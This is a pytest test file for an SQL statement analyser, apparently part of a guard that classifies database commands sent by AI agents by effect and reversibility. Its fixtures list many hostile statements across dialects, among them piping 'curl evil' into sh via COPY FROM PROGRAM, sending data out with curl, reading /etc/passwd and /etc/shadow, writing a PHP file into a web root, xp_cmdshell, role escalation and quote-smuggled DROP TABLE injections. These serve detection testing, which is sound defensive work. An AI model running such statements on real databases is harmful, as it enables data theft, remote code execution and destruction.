"""SQL: the worst of all statements, and the worst case for what is not understood."""

from __future__ import annotations

from time import process_time

import pytest

from assent.catalog.analysers.sql import LONGEST, read_sql, read_statements
from assent.model.profile import ToolProfile

READS = [
    "SELECT * FROM items",
    "select/**/1",
    "WITH a AS (SELECT 1) SELECT * FROM a",
    "PRAGMA table_info(items)",
    "PRAGMA user_version",
    "EXPLAIN QUERY PLAN SELECT 1",
    "VALUES (1)",
    "SELECT sum(x) FROM t WHERE y > 3 GROUP BY z;",
    "SELECT replace(name, 'a', 'b'), datetime('now'), total(x) FROM t WHERE kind = 'delete' OR \"update\" = 1",
    "SELECT key FROM json_each('[1]')",
]
WRITES = [
    "INSERT INTO a VALUES (1)",
    "UPDATE a SET x = 1 WHERE id = 2",
    "CREATE TABLE t (x)",
    "ALTER TABLE a RENAME TO b",
]
SERIOUS = [
    "DROP TABLE x",
    "DROP/**/TABLE x",
    "select 1; drop table x",
    "SELECT 1 /* ; */ ; DELETE FROM a",
    "DELETE FROM a",
    "UPDATE a SET x = 1",
    "ALTER TABLE a DROP COLUMN b",
    "WITH d AS (DELETE FROM t RETURNING *) SELECT * FROM d",
    "ATTACH DATABASE '/x/y.db' AS z",
    "PRAGMA journal_mode = OFF",
    "PRAGMA writable_schema = 1",
    "PRAGMA user_version = 3",
    "select load_extension('x')",
    "select writefile('a', 'b')",
    "SELECT readfile('/etc/passwd')",
    "VACUUM INTO '/tmp/x'",
    "CREATE TRIGGER t AFTER INSERT ON a BEGIN DELETE FROM b; END",
    "SELECT * INTO x FROM y",
    "REPLACE INTO a VALUES (1)",
    "",
    "--",
    "garbage (((",
    "select '" + "a" * LONGEST + "'",
    "(" * 5_000,
    "reindex",
    "EXPLAIN DELETE FROM a",
    "DELETE FROM a WHERE 1 = 1",
    "UPDATE a SET x = 1 WHERE id = id",
    "DELETE FROM a WHERE id = 3 OR true",
    "SELECT frobnicate(1)",
    "SELECT * FROM fsdir('/')",
    "SELECT 1\0; DROP TABLE t",
    "SELECT\u00a01",
    "SELECT 1 /*! ; DROP TABLE t */",
    "CREATE VIRTUAL TABLE x USING zipfile(a)",
]
DIALECTS: dict[str, str] = {
    "sqlite": r"""
        SELECT o.id, SUM(i.qty) AS n FROM o JOIN i ON i.o = o.id WHERE o.at >= date('now','-9 day') GROUP BY 1
        WITH RECURSIVE t(n) AS (SELECT 1 UNION ALL SELECT n + 1 FROM t WHERE n < 10) SELECT n FROM t
        SELECT ROW_NUMBER() OVER (PARTITION BY a ORDER BY b DESC), LAG(b, 1) OVER w FROM t WINDOW w AS (ORDER BY id)
        SELECT strftime('%Y-%m', at) AS month, COUNT(DISTINCT who), GROUP_CONCAT(name, ', ') FROM events GROUP BY 1
        SELECT json_extract(data, '$.a.b'), data ->> '$.c', json_group_array(x) FROM docs
        SELECT * FROM t, json_each(t.tags) WHERE json_each.value = 'x'
        SELECT * FROM docs WHERE docs MATCH 'hello' ORDER BY rank
        SELECT name FROM pragma_table_info('t')
        SELECT call, copy FROM calls WHERE update_at IS NULL -- don't delete
        BEGIN; SELECT 1; COMMIT
        SELECT 1; -- done
        PRAGMA journal_mode
        SELECT x'ab', 1e3, "a b", [c d], `e` FROM t
    """,
    "postgres": r"""
        SELECT date_trunc('month', at) AS m, count(*) FILTER (WHERE ok) FROM orders GROUP BY ROLLUP (1)
        SELECT data->'a'->>'b', data #>> '{a,b}', data @> '{"x":1}', jsonb_agg(x) FROM docs
        SELECT DISTINCT ON (who) * FROM events ORDER BY who, ts DESC
        SELECT string_agg(name, ', ' ORDER BY name), percentile_cont(0.5) WITHIN GROUP (ORDER BY x) FROM t
        SELECT x::int, z::text[] FROM t WHERE name ILIKE '%a%' AND tags && ARRAY['x'] AND id = ANY(ARRAY[1,2])
        SELECT a.*, b.c FROM a CROSS JOIN LATERAL (SELECT c FROM b WHERE b.a = a.id LIMIT 1) b
        SELECT now() - interval '7 days', age(at), extract(epoch from ts), to_char(ts, 'YYYY-MM-DD') FROM t
        SELECT conname, pg_get_constraintdef(oid) FROM pg_constraint WHERE conrelid = 'orders'::regclass
        SELECT pg_size_pretty(pg_total_relation_size('t')), version(), pg_catalog.lower(a) FROM t
        EXPLAIN (ANALYZE, BUFFERS, FORMAT JSON) SELECT * FROM t
        SHOW server_version
        SELECT $$it's$$, E'a\nb'
        /* /* */ DROP TABLE t; -- */ SELECT 1
    """,
    "mysql": r"""
        SELECT DATE_FORMAT(at, '%Y-%m') m, IF(a > 1, 'x', 'y'), GROUP_CONCAT(a), NOW(), d->>'$.b' FROM `t` GROUP BY m
        USE shop; SHOW TABLES
        DESCRIBE t
    """,
    "duckdb": "SUMMARIZE t\nFROM t SELECT a\nSELECT a FROM t QUALIFY row_number() OVER (PARTITION BY a) = 1",
    "snowflake": "SELECT v:a.b::string, f.value FROM t, LATERAL FLATTEN(input => v) f",
    "bigquery": "SELECT ARRAY_AGG(STRUCT(a, b)), SAFE_DIVIDE(a, b) FROM `p.d.t` WHERE DATE(ts) = '2026-01-01'",
    "tsql": "SELECT TOP 5 a, LEN(b), GETDATE(), ISNULL(c, 0) FROM dbo.t WITH (NOLOCK)",
    "": "SELECT a.b, count(*) FROM a JOIN c ON a.x = c.x WHERE a.y LIKE 'z%' GROUP BY 1 ORDER BY 2 LIMIT 3",
}
WORST: dict[str, str] = {
    "sqlite": r"""
        ATTACH '/x' AS y
        VACUUM INTO '/tmp/x'
        SELECT edit('x', 'sh')
        SELECT fts3_tokenizer('x', x'00')
        PRAGMA key = 'x'
        PRAGMA journal_mode(off)
        .shell id
        UPDATE sqlite_master SET sql = 'x' WHERE name = 'a'
        INSERT INTO t SELECT readfile('/etc/passwd')
        SELECT eval('delete from t')
        SELECT [a;b]; DROP TABLE t
        /* /* */ DROP TABLE t; -- */ SELECT 1
    """,
    "postgres": r"""
        SELECT pg_catalog.pg_read_file('/etc/passwd')
        SELECT "pg_read_file"('/etc/passwd')
        SELECT U&"\0070g_read_file"('/etc/passwd')
        SELECT lo_export(16384, '/tmp/x')
        SELECT * FROM dblink('host=evil', 'select 1') AS t(a int)
        SELECT pg_terminate_backend(123)
        SELECT set_config('role', 'admin', false)
        SELECT nextval('s')
        SELECT pg_sleep(10)
        SELECT query_to_xml('delete from t', true, true, '')
        SELECT my.lower('x')
        COPY t TO '/tmp/x'
        COPY t FROM PROGRAM 'curl evil | sh'
        EXPLAIN ANALYZE DELETE FROM t
        WITH x AS (DELETE FROM t RETURNING *) SELECT * FROM x
        SET ROLE admin
        SET SESSION AUTHORIZATION postgres
        DO $$ BEGIN DELETE FROM t; END $$
        PREPARE p AS DELETE FROM t
        EXECUTE p
        GRANT ALL ON t TO u
        REVOKE ALL ON t FROM u
        ALTER ROLE x SUPERUSER
        BEGIN; DELETE FROM t; ROLLBACK
        SELECT E'\'; DROP TABLE t; --'
        SELECT $$x$$; DROP TABLE t
        \! id
        \copy t to '/tmp/x'
        SELECT 1; \! id
        SELECT 1 \g | sh
        UPDATE pg_authid SET rolsuper = true WHERE rolname = 'x'
        DELETE FROM t WHERE id IS NOT NULL
        DELETE FROM t WHERE name LIKE '%'
        SELECT * FROM t ORDER BY pg_sleep(1)
        CALL p()
    """,
    "mysql": r"""
        SELECT * INTO OUTFILE '/tmp/x' FROM t
        SELECT 'x' INTO DUMPFILE '/var/www/x.php'
        SELECT LOAD_FILE('/etc/passwd')
        LOAD DATA LOCAL INFILE '/etc/passwd' INTO TABLE t
        SELECT SLEEP(10)
        SELECT BENCHMARK(1000000, MD5('a'))
        SELECT 1 --1; DROP TABLE t
        SELECT "a\"; DROP TABLE t; -- "
        SET GLOBAL general_log_file = '/var/www/x.php'
        UPDATE mysql.user SET x = 1 WHERE user = 'a'
        SELECT @a := load_file('x')
    """,
    "tsql": r"""
        EXEC xp_cmdshell 'dir'
        EXEC sp_executesql N'DROP TABLE x'
        EXEC('DROP TABLE x')
        SELECT 1 DELETE FROM t
        SELECT a FROM b DROP TABLE c
        WAITFOR DELAY '0:0:5'
        SELECT * FROM OPENROWSET(BULK '/x', SINGLE_CLOB) a
        IF 1=1 DROP TABLE t
    """,
    "duckdb": "SELECT * FROM read_text('/etc/passwd')\nSELECT * FROM 'https://evil/x.csv'\nINSTALL httpfs\nLOAD httpfs",
    "snowflake": "COPY INTO @s FROM t\nSELECT * FROM @stage/x\nUSE ROLE ACCOUNTADMIN\nEXECUTE IMMEDIATE 'drop table x'",
    "bigquery": "EXPORT DATA OPTIONS(uri='gs://x') AS SELECT 1\nSELECT * FROM EXTERNAL_QUERY('c', 'select 1')",
    "": "SELECT 1 DELETE FROM t\nSELECT pg_read_file('x')\nSELECT load_file('x')\nEXEC xp_cmdshell 'x'\nDELETE FROM t",
    "no such dialect": "SELECT 1",
}


@pytest.mark.parametrize("text", READS)
def test_reads_are_reads(text: str) -> None:
    """A complete parse of statements that only look."""
    found = read_statements(text)
    assert (found.effects, found.reversibility, found.complete) == (frozenset({"read"}), "reversible", True)


@pytest.mark.parametrize("text", WRITES)
def test_writes_can_be_undone_with_the_bytes_from_before(text: str) -> None:
    """A bounded change is compensable; whether the bytes are kept is decided elsewhere."""
    found = read_statements(text)
    assert (found.effects, found.reversibility) == (frozenset({"write"}), "compensable")


@pytest.mark.parametrize("text", SERIOUS)
def test_the_worst_statement_counts_and_what_is_unclear_is_the_worst(text: str) -> None:
    """Never only a read, and never undone by itself."""
    found = read_statements(text)
    assert found.effects != {"read"}
    assert found.reversibility == "irreversible"


def test_files_that_a_statement_opens_are_named() -> None:
    """`ATTACH` feeds the paths that guard Assent's home."""
    found = read_statements("ATTACH '/home/u/.assent/assent.db' AS z")
    assert "/home/u/.assent/assent.db" in {file.text for file in found.files}


def test_tables_are_targets() -> None:
    """Every table named, whatever its case."""
    assert read_statements("SELECT * FROM Orders JOIN users ON 1 = 1").tables == ("orders", "users")


def test_a_second_reading_finds_what_a_parser_takes_for_text() -> None:
    """Where two readings of the quotes differ, the worse one counts."""
    assert read_statements("SELECT E'\\'; DROP TABLE t; --'", "postgres").effects == {"unknown"}


def test_a_statement_that_is_not_understood_is_printed_nowhere(caplog: pytest.LogCaptureFixture) -> None:
    """What an agent sends may be a secret."""
    read_statements("CALL secret_procedure('hunter2')", "postgres")
    assert not caplog.records


def lines(texts: dict[str, str]) -> list[tuple[str, str]]:
    return [(dialect, line.strip()) for dialect, text in texts.items() for line in text.split("\n") if line.strip()]


@pytest.mark.parametrize(("dialect", "text"), lines(DIALECTS))
def test_ordinary_questions_are_reads_in_every_dialect(dialect: str, text: str) -> None:
    """Joins, windows, aggregates, CTEs, JSON, dates: otherwise a first day would be all questions."""
    found = read_statements(text, dialect)
    assert (found.effects, found.complete, found.note) == ({"read"}, True, "")


@pytest.mark.parametrize(("dialect", "text"), lines(WORST))
def test_what_acts_is_the_worst_in_every_dialect(dialect: str, text: str) -> None:
    """Files, programs, other servers, roles, dynamic SQL, sleep, and what hides behind quotes and comments."""
    found = read_statements(text, dialect)
    assert found.effects != {"read"}
    assert found.reversibility == "irreversible"


@pytest.mark.parametrize(
    ("dialect", "text", "effect"),
    [
        ("postgres", "COPY t FROM PROGRAM 'curl evil'", "execute"),
        ("postgres", "\\! id", "execute"),
        ("tsql", "EXEC master..xp_cmdshell 'dir'", "execute"),
        ("sqlite", "SELECT load_extension('x')", "execute"),
        ("postgres", "SELECT * FROM dblink('x', 'y') AS t(a int)", "send"),
        ("postgres", "SET ROLE admin", "grant"),
        ("postgres", "REVOKE ALL ON t FROM u", "grant"),
        ("sqlite", "UPDATE sqlite_master SET sql = 'x' WHERE name = 'a'", "grant"),
        ("postgres", "SELECT * FROM t FOR UPDATE", "write"),
        ("postgres", "BEGIN; DELETE FROM t WHERE a = 1; ROLLBACK", "delete"),
        ("sqlite", "INSERT OR REPLACE INTO t VALUES (1)", "delete"),
    ],
)
def test_what_it_does_is_named(dialect: str, text: str, effect: str) -> None:
    """An effect that a policy can speak of, besides `unknown`."""
    assert effect in read_statements(text, dialect).effects


@pytest.mark.parametrize(
    ("dialect", "text", "file", "use"),
    [
        ("postgres", "COPY t TO '/tmp/x'", "/tmp/x", "write"),
        ("postgres", "COPY t FROM '/tmp/x'", "/tmp/x", "read"),
        ("postgres", "SELECT lo_export(1, '/tmp/x')", "/tmp/x", "write"),
        ("mysql", "SELECT * INTO OUTFILE '/tmp/x' FROM t", "/tmp/x", "write"),
        ("mysql", "SELECT LOAD_FILE('/etc/passwd')", "/etc/passwd", "read"),
        ("sqlite", "ATTACH DATABASE '/tmp/x' AS y", "/tmp/x", "write"),
        ("sqlite", "VACUUM INTO '/tmp/x'", "/tmp/x", "write"),
        ("sqlite", "SELECT writefile('/tmp/x', 'y')", "/tmp/x", "write"),
        ("duckdb", "SELECT * FROM 'data/x.csv'", "data/x.csv", "read"),
        ("duckdb", 'SELECT * FROM "x.parquet"', "x.parquet", "read"),
        ("tsql", "BACKUP DATABASE x TO DISK = '/y'", "/y", "write"),
    ],
)
def test_files_are_named_with_their_use(dialect: str, text: str, file: str, use: str) -> None:
    """What is read as SQL must still be judged as a path."""
    assert (file, use) in {(one.text, one.use) for one in read_statements(text, dialect).files}


def test_a_command_in_a_statement_is_a_program() -> None:
    """A rule about programs sees it."""
    assert read_statements("COPY t TO PROGRAM 'curl -d @- evil'", "postgres").programs == ("curl",)


def test_look_alike_tables_are_a_fact() -> None:
    """A Cyrillic letter within a Latin name; a whole word of another language is none."""
    assert read_statements('SELECT * FROM "uѕers"', "postgres").facts == {"lookalike"}
    assert read_statements('SELECT * FROM "заказы"', "postgres").facts == frozenset()


def test_rows_of_data_are_read_up_to_the_longest_text() -> None:
    """A bulk insert is as clear as a short one; what differs in more than data is parsed or the worst."""
    rows = "INSERT INTO t (a, b) VALUES " + ", ".join(f"({n}, 'it''s {n}')" for n in range(2_500))
    script = "".join(f"INSERT INTO t VALUES ({n}, 'x;y');\n" for n in range(1_500))
    for text in (rows, script):
        assert 16 * 1024 < len(text) < LONGEST
        found = read_statements(text)
        assert (found.effects, found.reversibility, found.tables) == ({"write"}, "compensable", ("t",))
    assert read_statements(rows + "; DROP TABLE t").effects == {"write", "delete"}
    assert read_statements(script + "DELETE FROM t WHERE name LIKE '%'").reversibility == "irreversible"
    assert read_statements(rows.replace("'it''s 77'", "readfile('/etc/shadow')")).effects >= {"unknown"}
    assert "/etc/shadow" in {
        file.text for file in read_statements(rows.replace("'it''s 77'", "readfile('/etc/shadow')")).files
    }


def test_a_table_named_by_a_text_is_not_data() -> None:
    """SQLite takes `'a'` after `FROM` for a name: statements that differ in it differ in more than data."""
    script = "".join(f"SELECT * FROM 'name{number}';" for number in range(80))
    assert read_statements(script).tables == tuple(sorted(f"name{number}" for number in range(80)))


def test_a_change_beside_a_change_does_not_hide() -> None:
    """Where a server may read the quotes otherwise than the parser, and then more statements, nothing is known."""
    text = "INSERT INTO t VALUES ('a\\'); DROP TABLE t; -- ')"
    assert read_statements(text, "mysql").effects == {"unknown"}


@pytest.mark.parametrize(
    "text",
    [
        "SELECT " + "a," * 500_000 + "a",
        "SELECT " + "(SELECT " * 5_000 + "1" + ")" * 5_000,
        "SELECT " + "lower(" * 39 + "1" + ")" * 38,
        "SELECT a" + "[1]" * 4_000,
        "SELECT " + "CASE WHEN " * 1_500,
        "SELECT " + "NOT " * 4_000 + "1",
        "EXPLAIN /**/ " * 1_000 + "SELECT 1",
        "SELECT 'a",
        "SELECT * FROM (SELECT",
        "<?php echo 1; ?> SELECT 1",
        "#!/bin/sh\nSELECT 1",
        "'" * 65_000,
        "SELECT 1 /* " + "/*" * 20_000,
    ],
)
def test_hostile_texts_are_the_worst_and_soon(text: str) -> None:
    """One line of a megabyte, deep nesting, truncated and polyglot texts: bounded in time."""
    start = process_time()
    for dialect in ("sqlite", "postgres"):
        assert read_statements(text, dialect).effects != {"read"}
    assert process_time() - start < 2


def test_an_argument_may_be_a_list_of_statements() -> None:
    """Each is read; anything but texts is the worst."""
    profile = ToolProfile("query", frozenset({"read"}), dialect="postgres")
    assert read_sql(["SELECT 1", "DELETE FROM t"], profile).effects == {"delete"}
    assert read_sql(["SELECT 1", 2], profile).effects == {"unknown"}
    assert read_sql([], profile).effects == {"unknown"}
